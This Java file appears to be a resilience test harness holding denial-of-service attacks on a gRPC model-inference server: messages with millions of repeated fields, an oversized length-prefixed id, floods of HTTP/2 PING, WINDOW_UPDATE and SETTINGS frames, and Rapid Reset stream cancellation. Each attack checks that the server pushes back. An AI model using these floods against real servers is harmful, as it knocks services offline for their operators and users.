// SPDX-License-Identifier: Apache-2.0
package gatun.testing.attacks;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;

/** Calls that would make objects large or many on the heap of a gRPC server. */
public final class GrpcAttacks {
    private static final String RESOURCE_EXHAUSTED = "8";
    private static final String ENHANCE_YOUR_CALM = "GOAWAY 11";

    /** The numbers of fields of ModelInferRequest that are messages or texts, as tags. */
    private static final int MODEL_NAME = 1 << 3 | 2;

    private static final int ID = 3 << 3 | 2;
    private static final int PARAMETERS = 4 << 3 | 2;
    private static final int INPUTS = 5 << 3 | 2;
    private static final int OUTPUTS = 6 << 3 | 2;

    private final int count;

    /** Attacks with so many fields, frames or bytes; some use fewer. */
    public GrpcAttacks(int count) {
        this.count = count;
    }

    /** Every attack of this kind. */
    public List<Attack> all() {
        List<Attack> attacks = new ArrayList<>();
        attacks.add(message("millions of empty outputs", OUTPUTS, new byte[] {OUTPUTS, 0}));
        attacks.add(message("millions of empty inputs", INPUTS, new byte[] {INPUTS, 0}));
        attacks.add(message("millions of parameters", PARAMETERS, new byte[] {PARAMETERS, 0}));
        attacks.add(new Attack("a long id over gRPC", Set.of(RESOURCE_EXHAUSTED), this::longId));
        attacks.add(new Attack(
                "windows for a server whose answers nobody reads",
                Set.of(ENHANCE_YOUR_CALM, HttpAttacker.CLOSED),
                target -> flood(target, Http2Attacker.WINDOW_UPDATE, new byte[] {0, 0, 0, 1})));
        attacks.add(new Attack(
                "pings whose answers nobody reads",
                Set.of(ENHANCE_YOUR_CALM, HttpAttacker.CLOSED),
                target -> flood(target, Http2Attacker.PING, new byte[8])));
        attacks.add(new Attack(
                "settings of 2,000 entries",
                Set.of(ENHANCE_YOUR_CALM, HttpAttacker.CLOSED),
                target -> flood(target, Http2Attacker.SETTINGS, settings())));
        attacks.add(new Attack(
                "calls that are taken back at once", Set.of(ENHANCE_YOUR_CALM, HttpAttacker.CLOSED), this::rapidReset));
        attacks.add(new Attack(
                "whole requests that are taken back at once",
                Set.of(ENHANCE_YOUR_CALM, HttpAttacker.CLOSED),
                this::rapidResetOfWholeCalls));
        return attacks;
    }

    private Attack message(String name, int tag, byte[] unit) {
        return new Attack(name, Set.of(RESOURCE_EXHAUSTED), target -> {
            assert unit[0] == tag;
            try (Http2Attacker attacker = new Http2Attacker(target.grpc())) {
                return attacker.infer(new RepeatedBody(modelName(), unit, count, new byte[0]));
            }
        });
    }

    private String longId(Target target) throws IOException {
        ByteArrayOutputStream begin = new ByteArrayOutputStream();
        begin.writeBytes(modelName());
        begin.write(ID);
        // A length of four bytes of seven bits each.
        for (int shift = 0; shift < 28; shift += 7) {
            begin.write(((count >>> shift) & 0x7f) | (shift < 21 ? 0x80 : 0));
        }
        try (Http2Attacker attacker = new Http2Attacker(target.grpc())) {
            return attacker.infer(new RepeatedBody(begin.toByteArray(), new byte[] {'x'}, count, new byte[0]));
        }
    }

    private static byte[] modelName() {
        return ByteBuffer.allocate(8)
                .put((byte) MODEL_NAME)
                .put((byte) "simple".length())
                .put("simple".getBytes(US_ASCII))
                .array();
    }

    /** Settings that no one knows. */
    private static byte[] settings() {
        ByteBuffer settings = ByteBuffer.allocate(6 * 2000);
        while (settings.hasRemaining()) {
            settings.putShort((short) 0x7777).putInt(1);
        }
        return settings.array();
    }

    private String flood(Target target, int type, byte[] payload) throws IOException {
        try (Http2Attacker attacker = new Http2Attacker(target.grpc())) {
            try {
                for (int i = 0; i < count; i++) {
                    attacker.frame(type, 0, 0, payload);
                }
                attacker.flush();
            } catch (IOException e) {
                return HttpAttacker.CLOSED;
            }
            return attacker.end();
        }
    }

    private String rapidReset(Target target) throws IOException {
        return rapidReset(target, (attacker, stream) -> {});
    }

    private String rapidResetOfWholeCalls(Target target) throws IOException {
        byte[] message = modelName();
        byte[] data = ByteBuffer.allocate(5 + message.length)
                .putInt(1, message.length)
                .put(5, message)
                .array();
        return rapidReset(
                target,
                (attacker, stream) -> attacker.frame(Http2Attacker.DATA, Http2Attacker.END_STREAM, stream, data));
    }

    /** Sends the rest of a call whose headers are sent. */
    @FunctionalInterface
    private interface Request {
        void send(Http2Attacker attacker, int stream) throws IOException;
    }

    private String rapidReset(Target target, Request request) throws IOException {
        try (Http2Attacker attacker = new Http2Attacker(target.grpc())) {
            try {
                for (int i = 0; i < count / 10; i++) {
                    int stream = 2 * i + 1;
                    attacker.call(stream);
                    request.send(attacker, stream);
                    attacker.frame(Http2Attacker.RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8});
                }
                attacker.flush();
            } catch (IOException e) {
                return HttpAttacker.CLOSED;
            }
            return attacker.end();
        }
    }
}
